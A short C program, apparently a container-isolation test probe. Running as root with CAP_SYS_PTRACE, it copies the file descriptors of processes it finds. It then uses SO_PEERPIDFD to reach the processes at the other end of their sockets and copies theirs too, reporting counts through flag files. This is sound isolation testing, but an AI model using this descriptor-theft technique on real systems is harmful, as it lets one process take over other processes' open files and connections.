// Root of a container with CAP_SYS_PTRACE: takes the descriptors of each process that comes, asks each socket for the process
// at its other end (SO_PEERPIDFD), and takes that one's. Ends when /flags/stop is there, and says how many there were.
#include <stdio.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void) {
    int seen = 0, sockets = 0, others = 0;
    FILE *ready = fopen("/flags/ready", "w");
    fclose(ready);
    while (access("/flags/stop", F_OK)) {
        for (int pid = 3; pid < 300; pid++) {
            int process = syscall(SYS_pidfd_open, pid, 0);
            if (process < 0) continue;
            seen++;
            for (int fd = 0; fd < 64; fd++) {
                int taken = syscall(SYS_pidfd_getfd, process, fd, 0), peer = -1, type;
                socklen_t size = sizeof peer, length = sizeof type;
                if (taken < 0) continue;
                sockets += getsockopt(taken, SOL_SOCKET, SO_TYPE, &type, &length) == 0;
                if (getsockopt(taken, SOL_SOCKET, 77, &peer, &size) == 0) {
                    for (int theirs = 0; theirs < 64; theirs++) {
                        int far = syscall(SYS_pidfd_getfd, peer, theirs, 0);
                        if (far >= 0) others++, close(far);
                    }
                    close(peer);
                }
                close(taken);
            }
            close(process);
        }
    }
    printf("%s, %d of others\n", seen && sockets ? "some" : "none", others);
    return 0;
}
